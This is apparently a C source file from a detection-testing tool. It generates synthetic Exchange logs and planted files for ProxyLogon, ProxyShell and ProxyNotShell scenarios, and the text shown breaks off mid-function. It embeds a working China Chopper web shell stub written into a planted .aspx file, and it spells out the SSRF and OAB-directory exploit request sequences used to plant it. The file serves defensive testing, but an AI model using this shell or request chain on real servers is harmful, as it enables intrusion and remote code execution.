/* Scenarios: the attack traces each one plants, after the field notes.
 *
 *   proxylogon-oab-webshell  HELSECERT's March 2021 chain (logs-and-builds.md §3.1-3.2): SSRF via X-BEResource
 *                            (autodiscover.xml -> mapi/emsmdb -> proxyLogon.ecp 241 -> DDIService GetObject/SetObject
 *                            OABVirtualDirectory -> ResetOABVirtualDirectory 200), the ECP server log's
 *                            Set-OabVirtualDirectory with a China Chopper ExternalUrl, Remove-/New-OABVirtualDirectory,
 *                            the OAB export dropped over owa\auth\RedirSuiteServerProxy.aspx, the OAB generator's
 *                            "Download failed" line, UM InvalidCastException errors (CVE-2021-26857), the web shell
 *                            requested from HELSECERT's address (§3.5).
 *   proxyshell-pst-webshell  August 2021 (ioc-hunting.md §1.4, §4): autodiscover.json '@' path confusion to
 *                            autodiscover.xml, /mapi/emsmdb, /EWS and /powershell with X-Rps-CAT; Mailbox Import Export
 *                            role, New-MailboxExportRequest to aspnet_client\*.aspx (a PST with a "Page Language="
 *                            payload), New-ExchangeCertificate -RequestFile *.aspx (a DER request), POSTs to the shell.
 *   proxynotshell            Sept-Nov 2022: authenticated autodiscover.json ... powershell (CVE-2022-41040), the EEMS
 *                            rewrite rule, then OWASSRF /owa/<mail>/powershell (CVE-2022-41080) and owafonts.aspx.
 *   scanned-only             the patch came first: nmap/Metasploit/nuclei ProxyLogon and ProxyShell probes answered
 *                            500/401/400.
 *   compiled-webshell-only   the logs have rotated; only an App_Web_*.dll in Temporary ASP.NET Files remains (BSI).
 *
 * --patched-on moves the fix: a step taken after it fails (500/401/400) and the chain stops there. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "mkev.h"

const mk_scenario_info mk_scenarios[MK_SC_COUNT] = {
    [MK_SC_CLEAN] = {"clean", "2021-03-01", "2021-03-15", NULL, {15, 1, 2176, 2}, "benign traffic only"},
    [MK_SC_SCANNED] = {"scanned-only",
                       "2021-08-02",
                       "2021-08-16",
                       "2021-07-20",
                       {15, 1, 2308, 8},
                       "ProxyLogon/ProxyShell probes after the patch"},
    [MK_SC_PROXYLOGON] = {"proxylogon-oab-webshell",
                          "2021-02-26",
                          "2021-03-12",
                          "2021-03-10",
                          {15, 1, 2176, 2},
                          "ProxyLogon chain with an OAB export web shell"},
    [MK_SC_PROXYSHELL] = {"proxyshell-pst-webshell",
                          "2021-08-12",
                          "2021-08-26",
                          "2021-08-24",
                          {15, 1, 2176, 2},
                          "ProxyShell with a PST (and a DER) web shell"},
    [MK_SC_PROXYNOTSHELL] = {"proxynotshell",
                             "2022-09-26",
                             "2022-11-14",
                             "2022-11-10",
                             {15, 1, 2507, 13},
                             "ProxyNotShell, then OWASSRF and owafonts.aspx"},
    [MK_SC_COMPILED] = {"compiled-webshell-only",
                        "2021-03-08",
                        "2021-03-22",
                        "2021-03-09",
                        {15, 1, 2176, 2},
                        "only a compiled web shell in Temporary ASP.NET Files"},
};

int mk_scenario_lookup(const char *name)
{
    for (int i = 0; i < MK_SC_COUNT; i++)
        if (!strcmp(mk_scenarios[i].name, name))
            return i;
    return -1;
}

/* First fixed build per CU, from ../shared/reference/exchange-builds.tsv (Microsoft's build list). */
static const struct fix {
    int family; /* 0 ProxyLogon (Mar21SU), 1 ProxyShell (May21SU/Jul21SU), 2 ProxyNotShell (Nov22SU) */
    int minor, build, rev;
} fixes[] = {
    {0, 0, 1497, 12}, {0, 1, 2106, 13}, {0, 1, 2176, 9},  {0, 2, 721, 13}, {0, 2, 792, 10},  {1, 0, 1497, 18},
    {1, 1, 2176, 14}, {1, 1, 2242, 10}, {1, 1, 2308, 14}, {1, 2, 792, 15}, {1, 2, 858, 12},  {1, 2, 922, 13},
    {2, 0, 1497, 44}, {2, 1, 2375, 37}, {2, 1, 2507, 16}, {2, 2, 986, 36}, {2, 2, 1118, 20},
};

bool mk_fixed_build(mk_scenario_id sc, const mk_build *b, mk_build *fixed)
{
    int family = sc == MK_SC_PROXYNOTSHELL ? 2 : sc == MK_SC_PROXYSHELL || sc == MK_SC_SCANNED ? 1 : 0;
    for (size_t i = 0; i < MK_LEN(fixes); i++)
        if (fixes[i].family == family && fixes[i].minor == b->minor && fixes[i].build == b->build && b->major == 15) {
            *fixed = *b;
            if (b->rev < fixes[i].rev)
                fixed->rev = fixes[i].rev;
            return true;
        }
    return false;
}

/* ------------------------------------------------------------ expectations */

#define EXPECT(name, kind, cve, min, max, req, note) static const mk_expect name = {kind, cve, min, max, req, note}
EXPECT(E_26855_OK, "exploitation-success", "CVE-2021-26855", MK_SEV_HIGH, MK_SEV_NONE, true,
       "ProxyLogon SSRF (X-BEResource, ServerInfo~ anchor) answered with success before the fix");
EXPECT(E_26855_IIS_OK, "exploitation-success", "CVE-2021-26855", MK_SEV_HIGH, MK_SEV_NONE, true,
       "ProxyLogon request on the IIS front end (POST to /ecp/<x>.js or /owa/auth/Current/...) answered 200/241");
EXPECT(E_26855_TRY, "exploitation-attempt", "CVE-2021-26855", MK_SEV_INFO, MK_SEV_MEDIUM, true,
       "ProxyLogon SSRF attempt answered with an error (after the fix)");
EXPECT(C_26855, "exploitation-attempt", "CVE-2021-26855", MK_SEV_INFO, MK_SEV_NONE, false,
       "autodiscover-only or localhost ServerInfo~ anchor (excluded by Test-ProxyLogon); part of the attack");
EXPECT(C_26855_OK, "exploitation-success", "CVE-2021-26855", MK_SEV_INFO, MK_SEV_NONE, false,
       "back end side of the SSRF chain; part of the attack");
EXPECT(E_27065_RESET, "exploitation-success", "CVE-2021-27065", MK_SEV_HIGH, MK_SEV_NONE, true,
       "ServerInfo~*/*Reset*VirtualDirectory# answered 200 (Test-ProxyLogon resetVDirHits)");
EXPECT(E_27065_ECP, "exploitation-success", "CVE-2021-27065", MK_SEV_HIGH, MK_SEV_NONE, true,
       "Set-OabVirtualDirectory with script in ExternalUrl (ECP server log)");
EXPECT(E_27065_EVT, "exploitation-success", "CVE-2021-27065", MK_SEV_HIGH, MK_SEV_NONE, true,
       "Set-OabVirtualDirectory -ExternalUrl with script (MSExchange Management)");
EXPECT(C_27065, "exploitation-success", "CVE-2021-27065", MK_SEV_INFO, MK_SEV_NONE, false,
       "OAB virtual directory reset by the attacker; part of the attack");
EXPECT(E_26858, "exploitation-success", "CVE-2021-26858", MK_SEV_HIGH, MK_SEV_NONE, true,
       "OAB generator download to a path outside ClientAccess\\OAB");
EXPECT(E_26857, "exploitation-attempt", "CVE-2021-26857", MK_SEV_MEDIUM, MK_SEV_NONE, true,
       "MSExchange Unified Messaging error with System.InvalidCastException");
EXPECT(E_SHELL, "webshell", NULL, MK_SEV_CRITICAL, MK_SEV_NONE, true, "planted web shell");
EXPECT(E_SHELL_USE, "webshell", NULL, MK_SEV_HIGH, MK_SEV_NONE, true, "request to a planted web shell");
EXPECT(C_SHELL_AUX, "webshell", NULL, MK_SEV_INFO, MK_SEV_NONE, false,
       "build manifest of the compiled web shell; part of the attack");
EXPECT(E_34473_OK, "exploitation-success", "CVE-2021-34473", MK_SEV_HIGH, MK_SEV_NONE, true,
       "ProxyShell autodiscover.json '@' path confusion answered with success");
EXPECT(E_34473_TRY, "exploitation-attempt", "CVE-2021-34473", MK_SEV_INFO, MK_SEV_MEDIUM, true,
       "ProxyShell autodiscover.json probe answered 401 (after the fix)");
EXPECT(C_34473, "exploitation-attempt", "CVE-2021-34473", MK_SEV_INFO, MK_SEV_NONE, false,
       "ProxyShell request seen by HttpProxy or the back end; part of the attack");
EXPECT(C_34473_OK, "exploitation-success", "CVE-2021-34473", MK_SEV_INFO, MK_SEV_NONE, false,
       "ProxyShell request seen by HttpProxy or the back end; part of the attack");
EXPECT(E_31207, "exploitation-success", "CVE-2021-31207", MK_SEV_HIGH, MK_SEV_NONE, true,
       "New-MailboxExportRequest writing an .aspx (MSExchange Management)");
EXPECT(C_PROXYSHELL_EVT, "persistence", NULL, MK_SEV_INFO, MK_SEV_NONE, false,
       "ProxyShell post-exploitation cmdlet (role assignment, clean-up, certificate request); part of the attack");
EXPECT(E_41040_OK, "exploitation-success", "CVE-2022-41040", MK_SEV_HIGH, MK_SEV_NONE, true,
       "ProxyNotShell autodiscover.json ... powershell answered 200");
EXPECT(E_41040_TRY, "exploitation-attempt", "CVE-2022-41040", MK_SEV_INFO, MK_SEV_MEDIUM, true,
       "ProxyNotShell autodiscover.json ... powershell answered 401 (after the fix)");
EXPECT(C_41040, "exploitation-success", "CVE-2022-41040", MK_SEV_INFO, MK_SEV_NONE, false,
       "ProxyNotShell request seen by HttpProxy; part of the attack");
EXPECT(C_41082, "exploitation-success", "CVE-2022-41082", MK_SEV_INFO, MK_SEV_NONE, false,
       "back end /powershell request of the chain; part of the attack");
EXPECT(E_41080_OK, "exploitation-success", "CVE-2022-41080", MK_SEV_HIGH, MK_SEV_NONE, true,
       "OWASSRF POST /owa/<mail>/powershell answered 200");
EXPECT(E_41080_TRY, "exploitation-attempt", "CVE-2022-41080", MK_SEV_INFO, MK_SEV_MEDIUM, true,
       "OWASSRF POST /owa/<mail>/powershell answered 401 (after the fix)");
EXPECT(C_41080, "exploitation-success", "CVE-2022-41080", MK_SEV_INFO, MK_SEV_NONE, false,
       "OWASSRF request seen by HttpProxy; part of the attack");

/* ------------------------------------------------------------ helpers */

typedef struct sctx {
    const mk_cfg *c;
    mk_plan *p;
    mk_rng rng;
} sctx;

static bool fixed_at(const sctx *s, int64_t t)
{
    return t >= s->c->patched_ms;
}

static mk_req *atk(sctx *s, int64_t t, int proto, unsigned flags, const char *method, const char *stem,
                   const char *query, const char *ua, const char *cip, int status)
{
    mk_req *r = mk_plan_req(s->p);
    r->t = t;
    r->proto = (uint8_t)proto;
    r->flags = (uint8_t)flags;
    r->method = method;
    r->stem = mk_keep(stem);
    r->query = mk_keep(query);
    r->ua = ua;
    r->cip = cip;
    r->status = r->be_status = status;
    r->target = proto == MK_P_NONE ? "" : MK_SERVER_FQDN;
    r->time_taken = 150 + (int)mk_rng_below(&s->rng, 600);
    r->req_bytes = 700 + (int)mk_rng_below(&s->rng, 4000);
    r->resp_bytes = 400 + (int)mk_rng_below(&s->rng, 20000);
    mk_rng_guid(&s->rng, r->rid);
    mk_truth_malicious_time(t);
    return r;
}

static void random_name(sctx *s, char *out, size_t n, const char *set)
{
    size_t k = strlen(set);
    for (size_t i = 0; i + 1 < n; i++)
        out[i] = set[mk_rng_below(&s->rng, (uint32_t)k)];
    out[n - 1] = 0;
}

static const char *guid_keep(sctx *s)
{
    uint8_t g[16];
    char gs[37];
    mk_rng_guid(&s->rng, g);
    mk_guid_str(g, gs);
    return mk_keep(gs);
}

static const char *ecp_data(sctx *s, int64_t t, const char *cmd, const char *url, const char *ex)
{
    char buf[8192], bld[24];
    mk_build_short(mk_build_at(s->c, t), bld, sizeof bld);
    mk_ecp_eventdata(buf, sizeof buf, 300 + (int)mk_rng_below(&s->rng, 900), guid_keep(s), cmd, url, ex, bld,
                     guid_keep(s), guid_keep(s));
    return mk_keep(buf);
}

static void ecp_line(sctx *s, int64_t t, const char *cmd, const char *url, const char *ex, const mk_expect *e,
                     const char *benign)
{
    mk_logline *l = mk_plan_ecp(s->p);
    l->t = t;
    l->event_id = "ECP.Request";
    l->text = ecp_data(s, t, cmd, url, ex);
    l->expect = e;
    l->benign_note = benign;
    if (e)
        mk_truth_malicious_time(t);
}

static void cmdlet(sctx *s, int64_t t, const char *name, const char *params, const mk_user *u, bool ecp,
                   const mk_expect *e, const char *benign)
{
    mk_event *ev = mk_plan_event(s->p);
    mk_cmdlet_event(ev, t, name, params, u, ecp, guid_keep(s));
    ev->expect = e;
    ev->benign_note = benign;
    if (e)
        mk_truth_malicious_time(t);
}

static const char *canary(sctx *s)
{
    char c[66];
    random_name(s, c, sizeof c, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_");
    return mk_keepf("%s.", c);
}

static const char *win_path(const mk_cfg *c, const char *rel)
{
    return mk_keepf("%s\\%s", c->install_win, rel);
}

static void base64(const uint8_t *in, size_t n, char *out)
{
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t o = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)in[i] << 16 | (i + 1 < n ? (uint32_t)in[i + 1] << 8 : 0) | (i + 2 < n ? in[i + 2] : 0);
        out[o++] = b64[v >> 18 & 63];
        out[o++] = b64[v >> 12 & 63];
        out[o++] = i + 1 < n ? b64[v >> 6 & 63] : '=';
        out[o++] = i + 2 < n ? b64[v & 63] : '=';
    }
    out[o] = 0;
}

/* ------------------------------------------------------------ file contents */

/* What Reset-OABVirtualDirectory's export writes: the virtual directory as a
 * property list, its ExternalUrl holding the China Chopper stub (CISA
 * AR21-072D/084A, MSTIC WEBSHELL_CVE_2021_27065_Webshells fields). */
static char *oab_export(const mk_cfg *c, const char *external_url, const char *vdir_guid)
{
    return (char *)mk_keepf(
        "RunspaceId                      : 5b0c1ad4-5a52-4fba-9c62-3d1f0e2a66c1\r\n"
        "PollInterval                    : 480\r\n"
        "OfflineAddressBooks             : \r\n"
        "RequireSSL                      : False\r\n"
        "BasicAuthentication             : False\r\n"
        "WindowsAuthentication           : True\r\n"
        "OAuthAuthentication             : True\r\n"
        "MetabasePath                    : IIS://%s/W3SVC/1/ROOT/OAB\r\n"
        "Path                            : %s\\FrontEnd\\HttpProxy\\OAB\r\n"
        "ExtendedProtectionTokenChecking : None\r\n"
        "ExtendedProtectionFlags         : \r\n"
        "ExtendedProtectionSPNList       : \r\n"
        "AdminDisplayVersion             : Version 15.1 (Build %d.%d)\r\n"
        "Server                          : %s\r\n"
        "InternalUrl                     : https://%s/OAB\r\n"
        "InternalAuthenticationMethods   : WindowsIntegrated\r\n"
        "ExternalUrl                     : %s\r\n"
        "ExternalAuthenticationMethods   : WindowsIntegrated\r\n"
        "AdminDisplayName                : \r\n"
        "ExchangeVersion                 : 0.10 (14.0.100.0)\r\n"
        "Name                            : OAB (Default Web Site)\r\n"
        "DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=%s,CN=Servers,"
        "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft "
        "Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local\r\n"
        "Identity                        : %s\\OAB (Default Web Site)\r\n"
        "Guid                            : %s\r\n"
        "ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory\r\n"
        "ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}\r\n"
        "WhenChanged                     : 3/3/2021 6:49:53 AM\r\n"
        "WhenCreated                     : 1/12/2021 7:42:11 PM\r\n"
        "OriginatingServer               : DC01.contoso.local\r\n"
        "IsValid                         : True\r\n",
        MK_SERVER_FQDN, c->install_win, c->build.build, c->build.rev, MK_SERVER, MK_SERVER_FQDN_LC, external_url,
        MK_SERVER, MK_SERVER, vdir_guid);
}

/* A mailbox exported to PST: "!BDN" header, permutation-encoded pages, and
 * the attacker's draft whose pre-encoded body comes out as plain ASPX. */
static uint8_t *pst_shell(sctx *s, const char *payload, size_t *len)
{
    size_t n = 72 * 1024;
    uint8_t *b = calloc(1, n);
    if (!b)
        return NULL;
    memcpy(b, "!BDN", 4);
    for (int i = 4; i < 8; i++)
        b[i] = (uint8_t)mk_rng_below(&s->rng, 256); /* dwCRCPartial */
    memcpy(b + 8, "SM", 2);                         /* wMagicClient */
    b[10] = 23;                                     /* wVer: Unicode PST */
    b[12] = 19;                                     /* wVerClient */
    b[14] = 1;                                      /* bPlatformCreate */
    b[15] = 1;                                      /* bPlatformAccess */
    b[0x201] = 0x80;                                /* bCryptMethod: NDB_CRYPT_PERMUTE */
    for (size_t off = 0x4400; off < n; off += 512) {
        size_t end = off + 480;
        for (size_t i = off; i < end && i < n; i++)
            b[i] = (uint8_t)mk_rng_below(&s->rng, 256);
    }
    size_t at = 0x9c00;
    memcpy(b + at, payload, strlen(payload));
    *len = n;
    return b;
}

static size_t der_len(uint8_t *p, size_t len)
{
    if (len < 128) {
        p[0] = (uint8_t)len;
        return 1;
    }
    p[0] = 0x82;
    p[1] = (uint8_t)(len >> 8);
    p[2] = (uint8_t)len;
    return 3;
}

/* DER TLV with a two-byte long form length when needed. */
static size_t der(uint8_t *out, uint8_t tag, const uint8_t *content, size_t clen)
{
    size_t o = 0;
    out[o++] = tag;
    if (clen >= 128 && clen < 256) {
        out[o++] = 0x82;
        out[o++] = 0;
        out[o++] = (uint8_t)clen;
    } else {
        o += der_len(out + o, clen);
    }
    memmove(out + o, content, clen);
    return o + clen;
}

/* New-ExchangeCertificate -GenerateRequest -BinaryEncoded: a PKCS#10 request
 * in DER whose subject carries the payload (starts 30 82, ProxyShell_Aug21_3). */
static uint8_t *der_shell(sctx *s, const char *payload, size_t *len)
{
    static uint8_t tmp[8192], a[8192], b[8192];
    size_t n;
    /* subject: SET { SEQUENCE { OID 2.5.4.3, UTF8String payload } } */
    static const uint8_t cn_oid[] = {0x06, 0x03, 0x55, 0x04, 0x03};
    memcpy(a, cn_oid, sizeof cn_oid);
    n = sizeof cn_oid + der(a + sizeof cn_oid, 0x0c, (const uint8_t *)payload, strlen(payload));
    n = der(b, 0x30, a, n);
    n = der(a, 0x31, b, n);
    size_t subject = der(b, 0x30, a, n);
    /* SubjectPublicKeyInfo: rsaEncryption, BIT STRING of 270 bytes */
    static const uint8_t rsa[] = {0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86,
                                  0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00};
    uint8_t key[271];
    key[0] = 0;
    for (size_t i = 1; i < sizeof key; i++)
        key[i] = (uint8_t)mk_rng_below(&s->rng, 256);
    memcpy(tmp, rsa, sizeof rsa);
    size_t spki = sizeof rsa + der(tmp + sizeof rsa, 0x03, key, sizeof key);
    /* CertificationRequestInfo: version 0, subject, spki, [0] attributes */
    size_t cri = 0;
    a[cri++] = 0x02, a[cri++] = 0x01, a[cri++] = 0x00;
    memcpy(a + cri, b, subject);
    cri += subject;
    cri += der(a + cri, 0x30, tmp, spki);
    a[cri++] = 0xa0, a[cri++] = 0x00;
    n = der(b, 0x30, a, cri);
    static const uint8_t sha256rsa[] = {0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86,
                                        0xf7, 0x0d, 0x01, 0x01, 0x0b, 0x05, 0x00};
    memcpy(b + n, sha256rsa, sizeof sha256rsa);
    n += sizeof sha256rsa;
    uint8_t sig[257];
    sig[0] = 0;
    for (size_t i = 1; i < sizeof sig; i++)
        sig[i] = (uint8_t)mk_rng_below(&s->rng, 256);
    n += der(b + n, 0x03, sig, sizeof sig);
    /* outer SEQUENCE, always with the two-byte length so the file starts 30 82 */
    uint8_t *out = malloc(n + 4);
    if (!out)
        return NULL;
    out[0] = 0x30;
    out[1] = 0x82;
    out[2] = (uint8_t)(n >> 8);
    out[3] = (uint8_t)n;
    memcpy(out + 4, b, n);
    *len = n + 4;
    return out;
}

/* ------------------------------------------------------------ ProxyLogon */

static void plan_proxylogon(sctx *s)
{
    const mk_cfg *c = s->c;
    const char *ip = "130.255.189.21";        /* HELSECERT */
    const char *shell_ip = "139.162.202.236"; /* HELSECERT, web shell access */
    const char *ua_esc = "ExchangeServicesClient/0.0.0.0";
    const char *ua_py = "python-requests/2.25.1";
    int64_t t0 = mk_time_make(2021, 3, 3, 6, 49, 42, 162);
    const char *be = MK_SERVER_FQDN ":444";
    const char *can1 = canary(s), *can2 = canary(s);
    const char *vdir = "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3"; /* HELSECERT's OAB vdir id */
    struct step {
        int64_t dt;
        const char *ua, *target, *be_stem, *be_query;
        int status;
        const mk_expect *hp_ok;
        bool autodiscover;
    } steps[] = {
        {0, ua_esc, "/autodiscover/autodiscover.xml?#", "/autodiscover/autodiscover.xml", "", 200, &C_26855, true},
        {1537, ua_py, "/mapi/emsmdb/?#", "/mapi/emsmdb/", "", 200, &E_26855_OK, false},
        {4048, ua_py, "/ecp/proxyLogon.ecp?#", "/ecp/proxyLogon.ecp", "", 241, &E_26855_OK, false},
        {9381, ua_py,
         mk_keepf("/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory#", can1),
         "/ecp/DDI/DDIService.svc/GetObject", mk_keepf("msExchEcpCanary=%s&schema=OABVirtualDirectory", can1), 200,
         &E_26855_OK, false},
        {575880, ua_py,
         mk_keepf("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory#", can2),
         "/ecp/DDI/DDIService.svc/SetObject", mk_keepf("msExchEcpCanary=%s&schema=OABVirtualDirectory", can2), 200,
         &E_26855_OK, false},
        {578197, ua_py,
         mk_keepf("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s&schema=ResetOABVirtualDirectory#", can2),
         "/ecp/DDI/DDIService.svc/SetObject", mk_keepf("msExchEcpCanary=%s&schema=ResetOABVirtualDirectory", can2), 200,
         &E_27065_RESET, false},
    };
    /* An earlier actor the night before (Volexity's pattern, ioc-hunting.md §1.3): the SSRF through
     * POSTs to static resources under /owa/auth/Current/, with a crawler's user agent. */
    static const char *const res[] = {"logon.css", "owafont_ja.css", "lgnbotl.gif"};
    int64_t tv = mk_time_make(2021, 3, 2, 23, 14, 51, 377);
    for (size_t i = 0; i < MK_LEN(res); i++) {
        int64_t t = tv + (int64_t)i * 2311;
        bool fixed = fixed_at(s, t);
        mk_req *r =
            atk(s, t, MK_P_OWA, MK_R_HP | MK_R_FE | (fixed ? 0 : MK_R_BE), "POST",
                mk_keepf("/owa/auth/Current/themes/resources/%s", res[i]), "",
                "DuckDuckBot/1.0; (+http://duckduckgo.com/duckduckbot.html)", "149.28.14.163", fixed ? 500 : 200);
        r->anchor = mk_keepf("ServerInfo~a]@%s/mapi/emsmdb/?#", be);
        r->routing_type = "Server";
        r->routing_hint = "X-BEResource-Cookie";
        r->be_stem = "/mapi/emsmdb/";
        r->be_query = "";
        r->be_user = "NT AUTHORITY\\SYSTEM";
        r->expect[MK_T_HP] = fixed ? &E_26855_TRY : &E_26855_OK;
        r->expect[MK_T_FE] = fixed ? &E_26855_TRY : &E_26855_IIS_OK;
        r->expect[MK_T_BE] = &C_26855_OK;
    }

    bool chain_ok = true;
    for (size_t i = 0; i < MK_LEN(steps) && chain_ok; i++) {
        int64_t t = t0 + steps[i].dt;
        bool fixed = fixed_at(s, t);
        int status = fixed ? 500 : steps[i].status;
        /* Once fixed, the front end no longer routes the cookie's target: no back end line. */
        mk_req *r = atk(s, t, MK_P_ECP, MK_R_HP | MK_R_FE | (fixed ? 0 : MK_R_BE), "POST", "/ecp/y.js", "", steps[i].ua,
                        ip, status);
        r->anchor = mk_keepf("ServerInfo~a]@%s%s", be, steps[i].target);
        r->routing_type = "Server";
        r->routing_hint = "X-BEResource-Cookie";
        if (!steps[i].autodiscover)
            r->be_cookie = mk_keepf("Server~a]@%s%s~1942062522", be, steps[i].target);
        r->be_stem = steps[i].be_stem;
        r->be_query = steps[i].be_query;
        r->be_user = i < 3 ? "NT AUTHORITY\\SYSTEM" : MK_NETBIOS "\\administrator";
        if (fixed) {
            r->be_status = 500;
            r->error_code = "NegotiateSecurityContext";
        }
        r->expect[MK_T_HP] = steps[i].autodiscover ? &C_26855 : fixed ? &E_26855_TRY : steps[i].hp_ok;
        r->expect[MK_T_FE] = steps[i].autodiscover ? &C_26855 : fixed ? &E_26855_TRY : &E_26855_IIS_OK;
        r->expect[MK_T_BE] = &C_26855_OK;
        /* The chain needs both the SSRF and the admin session: it stops at the first failure after autodiscover. */
        if (fixed && !steps[i].autodiscover)
            chain_ok = false;
    }
    if (!chain_ok || fixed_at(s, t0))
        return;

    /* ECP server log (HELSECERT ECPServer20210303-1.LOG). */
    const char *chopper = "http://f/<script language=\"JScript\" runat=\"server\">function "
                          "Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>";
    const char *set_url =
        mk_keepf("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s&schema=OABVirtualDirectory", can1);
    ecp_line(s, mk_time_make(2021, 3, 3, 6, 49, 53, 772),
             mk_keepf("Set-OabVirtualDirectory.ExternalUrl='%s'.Identity='%s'", chopper, vdir), set_url, "",
             &E_27065_ECP, NULL);
    ecp_line(s, mk_time_make(2021, 3, 3, 6, 49, 58, 835),
             mk_keepf("Set-OabVirtualDirectory.ExternalUrl=$null.Identity='%s'", vdir), set_url,
             mk_keepf("Microsoft.Exchange.Data.Directory.ADNoSuchObjectException: The operation couldn't be performed "
                      "because object '%s' couldn't be found on 'DC01.%s'.",
                      vdir, MK_AD_DOMAIN),
             &C_27065, NULL);
    ecp_line(s, mk_time_make(2021, 3, 3, 6, 50, 0, 717),
             mk_keepf("Remove-OABVirtualDirectory.Force=$true.Identity='%s\\OAB (Default Web Site)'", MK_SERVER),
             set_url, "", &C_27065, NULL);
    ecp_line(s, mk_time_make(2021, 3, 3, 6, 50, 8, 396),
             mk_keepf("New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='%s'.Role='ClientAccess'."
                      "InternalURL='https://%s/OAB'.Path='%s'",
                      MK_SERVER, MK_SERVER_FQDN_LC, win_path(c, "FrontEnd\\HttpProxy\\OAB")),
             set_url, "", &C_27065, NULL);

    /* The same cmdlets in MSExchange Management (run through ECP). */
    const mk_user *adm = &mk_users[0];
    cmdlet(s, mk_time_make(2021, 3, 3, 6, 49, 53, 901), "Set-OabVirtualDirectory",
           mk_keepf("-Identity \"%s\" -ExternalUrl \"%s\"", vdir, chopper), adm, true, &E_27065_EVT, NULL);
    cmdlet(s, mk_time_make(2021, 3, 3, 6, 50, 0, 802), "Remove-OabVirtualDirectory",
           mk_keepf("-Identity \"%s\\OAB (Default Web Site)\" -Force \"True\"", MK_SERVER), adm, true, &C_27065, NULL);
    cmdlet(s, mk_time_make(2021, 3, 3, 6, 50, 8, 511), "New-OabVirtualDirectory",
           mk_keepf("-WebSiteName \"Default Web Site\" -Server \"%s\" -Role \"ClientAccess\" -InternalUrl "
                    "\"https://%s/OAB\" -Path \"%s\"",
                    MK_SERVER, MK_SERVER_FQDN_LC, win_path(c, "FrontEnd\\HttpProxy\\OAB")),
           adm, true, &C_27065, NULL);

    /* The export lands over owa\auth\RedirSuiteServerProxy.aspx (HELSECERT). */
    int64_t drop = mk_time_make(2021, 3, 3, 6, 59, 20, 811);
    char shell_v[512];
    snprintf(shell_v, sizeof shell_v, "%s/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx", c->install_v);
    char *exp = oab_export(c, chopper, "2bb0e33c-0b17-4e5e-8e1c-6f7ac3c1b0a4");
    mk_plan_file(s->p, shell_v, exp, strlen(exp), drop, &E_SHELL, NULL);

    mk_logline *o = mk_plan_oab(s->p);
    o->t = mk_time_make(2021, 3, 3, 6, 59, 21, 530);
    o->event_id = "Error";
    o->text = mk_keepf("Download failed and temporary file '%s' needs to be removed.",
                       win_path(c, "FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx"));
    o->expect = &E_26858;
    mk_truth_malicious_time(o->t);

    /* UM deserialisation attempts (CVE-2021-26857): Application log errors. */
    static const int64_t um_dt[] = {12 * 60000 + 29000, 15 * 60000 + 1000};
    for (size_t i = 0; i < MK_LEN(um_dt); i++) {
        mk_event *ev = mk_plan_event(s->p);
        memset(ev, 0, sizeof *ev);
        ev->t = t0 + um_dt[i];
        ev->channel = MK_CH_APPLICATION;
        ev->provider = "MSExchange Unified Messaging";
        ev->event_id = 1040;
        ev->qualifiers = 49152;
        ev->level = 2;
        ev->task = 1;
        ev->keywords = 0x80000000000000ULL;
        ev->ndata = 2;
        ev->data[0] = "UM worker process";
        ev->data[1] = "An unhandled exception occurred in a UM worker process: System.InvalidCastException: Unable to "
                      "cast object of type 'System.Collections.Generic.SortedSet`1[System.String]' to type "
                      "'Microsoft.Exchange.UM.UMCommon.PipelineContext'.\r\n   at "
                      "Microsoft.Exchange.UM.UMCore.PipelineDispatcher.OnMessageReceived(Object sender, EventArgs e)";
        ev->expect = &E_26857;
        mk_truth_malicious_time(ev->t);
    }

    /* The web shell used: two POSTs from the exploiting address, then HELSECERT's GET. */
    static const struct {
        int y, mo, d, h, mi, se;
        const char *method;
        int taken;
    } uses[] = {
        {2021, 3, 3, 7, 15, 8, "POST", 231},
        {2021, 3, 4, 22, 41, 10, "POST", 187},
        {2021, 3, 5, 3, 6, 27, "GET", 133},
    };
    for (size_t i = 0; i < MK_LEN(uses); i++) {
        int64_t t = mk_time_make(uses[i].y, uses[i].mo, uses[i].d, uses[i].h, uses[i].mi, uses[i].se, 0);
        bool get = !strcmp(uses[i].method, "GET");
        mk_req *r = atk(s, t, MK_P_NONE, MK_R_FE, uses[i].method, "/owa/auth/RedirSuiteServerProxy.aspx", "",
                        get ? "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                              "Chrome/65.0.2345 Safari/537.36"
                            : ua_py,
                        get ? shell_ip : ip, 200);
        r->time_taken = uses[i].taken;
        r->expect[MK_T_FE] = &E_SHELL_USE;
    }
}

/* ------------------------------------------------------------ ProxyShell */

static const char *rps_cat(const mk_user *u)
{
    /* X-Rps-CAT: a serialized CommonAccessToken (version, type, auth, logon name, SID, groups). */
    uint8_t tok[512];
    size_t n = 0;
    const char *parts[] = {"V\x01\x00", "T\x07Windows", "C\x00", "A\x08Kerberos"};
    static const size_t lens[] = {3, 9, 2, 10};
    for (size_t i = 0; i < MK_LEN(parts); i++) {
        memcpy(tok + n, parts[i], lens[i]);
        n += lens[i];
